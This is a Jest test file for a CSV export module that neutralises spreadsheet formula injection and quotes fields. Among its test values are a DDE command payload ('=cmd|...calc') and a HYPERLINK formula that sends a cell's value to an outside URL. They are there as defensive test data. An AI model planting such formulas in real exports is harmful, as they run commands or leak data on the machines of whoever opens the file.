import { csvField, csvRecord, looksLikeFormula, neutraliseFormula } from '../../src/domain/spreadsheet';
import { parseCsv } from '../../src/ingest/csv';

/** Formula strings are kept as data and neutralised on the way into a spreadsheet. */
describe('neutraliseFormula', () => {
  test.each([
    // stored text, what a spreadsheet receives
    ["=cmd|' /C calc'!A0", "'=cmd|' /C calc'!A0"], // the DDE payload the intrusion test stored
    ['=HYPERLINK("http://x/?"&A1)', '\'=HYPERLINK("http://x/?"&A1)'],
    ['+1+1', "'+1+1"],
    ['-2+3+cmd|x', "'-2+3+cmd|x"],
    ['@SUM(A1:A9)', "'@SUM(A1:A9)"],
    ['\t=1', "'\t=1"], // a leading tab
    ['\r=1', "'\r=1"], // a leading carriage return
    ['  =1+1', "'  =1+1"], // spaces before the trigger
    ['＝1+1', "'＝1+1"], // full-width equals
    ['－1', "'－1"], // full-width minus (not a plain number)
    ['-5', '-5'], // plain numbers are values, not formulas
    ['+84912345678', '+84912345678'],
    ['-0.25', '-0.25'],
    ['1e-3', '1e-3'],
    ['Trạm y tế = CDC', 'Trạm y tế = CDC'], // a trigger later in the text is harmless
    ['CDC Đồng Nai', 'CDC Đồng Nai'],
    ['', ''],
    ["'=already", "'=already"], // an apostrophe first: already text
  ])('%j → %j', (text, expected) => {
    expect(neutraliseFormula(text)).toBe(expected);
    expect(looksLikeFormula(text)).toBe(expected !== text);
  });
});

describe('csvField and csvRecord', () => {
  test.each([
    [null, ''],
    [undefined, ''],
    [12, '12'],
    [-3.5, '-3.5'],
    [Number.NaN, ''],
    [true, 'true'],
    ['Long Bình', '"Long Bình"'],
    ['a "b"', '"a ""b"""'],
    ['=1+1', '"\'=1+1"'],
    ['x;=1+1', '"x;=1+1"'], // quoted: a ;-splitting spreadsheet keeps it one cell
  ])('%j → %s', (value, expected) => {
    expect(csvField(value)).toBe(expected);
  });

  test('a record reads back as the neutralised values, one field each', () => {
    const values = ['VNM.17.1_1', "=cmd|' /C calc'!A0", 'a,b', 'dòng 1\ndòng 2', 'x;@y', 7, null];
    const text = csvRecord(values);
    expect(text.endsWith('\r\n')).toBe(true);
    const [rec] = parseCsv(text);
    expect(rec?.fields).toEqual(['VNM.17.1_1', "'=cmd|' /C calc'!A0", 'a,b', 'dòng 1\ndòng 2', 'x;@y', '7', '']);
  });
});

describe('plain numbers and formulas at the edges', () => {
  test.each([
    // signed decimals in every form stay values
    ['-.5', false],
    ['-.55', false],
    ['+3.', false],
    ['-1e10', false],
    ['-1E+5', false],
    ['-2.5e-3', false],
    ['-12.75e12', false],
    // anything more after a sign is a formula
    ['-5 ', true],
    ['- 5', true],
    ['-.', true],
    ['-.x', true],
    ['-1e', true],
    ['-1ex', true],
    ['-1e-', true],
    ['-1e*5', true],
    ['-1-1', true],
    ['-5x', true],
    ['@1', true],
    // a trigger after other text is harmless
    ['a -5 ', false],
    ['5 =1', false],
  ])('%j looks like a formula: %s', (text, formula) => {
    expect(looksLikeFormula(text)).toBe(formula);
    expect(neutraliseFormula(text)).toBe(formula ? `'${text}` : text);
  });

  test('false is written as false', () => {
    expect(csvField(false)).toBe('false');
    expect(csvRecord([false, true])).toBe('false,true\r\n');
  });
});
